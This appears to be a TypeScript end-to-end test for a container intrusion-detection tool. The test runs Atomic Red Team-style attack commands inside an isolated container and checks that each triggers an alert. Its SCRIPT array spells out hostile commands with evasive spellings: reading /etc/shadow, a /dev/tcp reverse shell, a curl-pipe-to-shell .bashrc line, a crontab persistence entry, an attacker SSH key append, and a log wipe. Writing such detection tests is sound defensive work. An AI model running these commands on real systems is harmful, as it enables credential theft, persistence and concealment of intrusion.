import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { adminClient, engines, LAB, newNamespace } from '../support/engines';
import { removeContainers, runContainer } from '../support/containers';
import { DockwardProcess } from '../support/dockward';
import { waitForRules } from '../support/elasticsearch';

type Alert = { rule: { id: string }; process?: { command_line?: string } };

/**
 * Review finding M1 end to end: the evasive spellings (security.md's "Evasions" table) run for real
 * in a container without a network (runContainer's default), seen by the kernel collector alone, and the persistence and
 * impact commands of Atomic Red Team's Linux tests (T1546.004, T1053.003, T1098.004, T1070.002),
 * each in its own `sh -c` so the kernel documents its command line. The script travels
 * base64-encoded so the container's own command line carries none of it.
 */
const SCRIPT = [
  'sleep 2',
  'cat /etc//shadow > /dev/null',
  'sh -c "echo aWQ= | base64 --d | sh" > /dev/null',
  'timeout 1 bash -c "bash -i >& /dev//tcp/127.0.0.1/4444 0>&1" 2>/dev/null',
  "sh -c \"echo 'curl -s http://127.0.0.1/a | sh' >> ~/.bashrc\"",
  "sh -c \"echo '* * * * * root /tmp/evil.sh' >> /etc/crontab\"",
  "sh -c \"mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3Nza attacker' >> /root/.ssh/authorized_keys\"",
  'sh -c "rm -rf /var/log/apt"',
  'sleep 300',
].join('\n');

describe('canonical spelling and the new rules on a real engine (kernel process events alone)', () => {
  const { docker } = engines();
  const es = adminClient();
  const ns = newNamespace('kcanon');
  let dw: DockwardProcess;

  before(async () => {
    dw = DockwardProcess.run({
      namespace: ns,
      // Budget off: a fresh dockward builds its regexes' DFA states on the first documents, and on a
      // loaded two-core machine that cost (charged to the first container) exhausted the 200 ms
      // budget once; the budget has its own tests, this one is about what the rules match.
      // Audit on: `cat /etc//shadow` lives microseconds and its command line is lost to the /proc
      // race without it (seen here); this test is about spelling, not the race.
      sets: ['collectors.kernel.enabled=true', 'collectors.audit.enabled=true', 'collectors.processes.enabled=false', 'collectors.exec.enabled=false', 'detect.window=1h', 'detect.budget_per_container=0'],
    });
    // 197 rules compile at start: on a loaded two-core machine that took more than 30 s once.
    await dw.waitFor(/kernel process events: subscribed/, 120_000);
  });
  after(async () => {
    await dw.kill();
    await removeContainers(docker, ns);
    await es.close();
  });

  it('/etc//shadow, base64 --d, /dev//tcp, a .bashrc, crontab and authorized_keys append, a log wipe: each alerts', async () => {
    const b64 = Buffer.from(SCRIPT).toString('base64');
    const { id } = await runContainer(docker, { name: `${ns}-victim`, image: LAB, cmd: ['sh', '-c', `echo ${b64} | base64 -d > /tmp/a.sh; exec sh /tmp/a.sh`] });
    const want = ['dockward-credential-search', 'dockward-base64-exec', 'dockward-reverse-shell-dev-tcp', 'dockward-shell-profile-modify', 'dockward-cron-job-write', 'dockward-authorized-keys-modify', 'dockward-log-wipe-bulk'];
    const alerts = await waitForRules<Alert>(es, `logs-dockward.alert-${ns}`, id, want, 60_000);
    assert.deepEqual(want.filter((r) => !alerts.some((a) => a.rule.id === r)), [], `missing alerts; got ${alerts.map((a) => a.rule.id)}\n${dw.log.slice(-2000)}`);
    // The alert carries the command as it was run, not its canonical spelling.
    const shadow = alerts.find((a) => a.rule.id === 'dockward-credential-search');
    assert.match(shadow?.process?.command_line ?? '', /\/etc\/\/shadow/);
  });
});
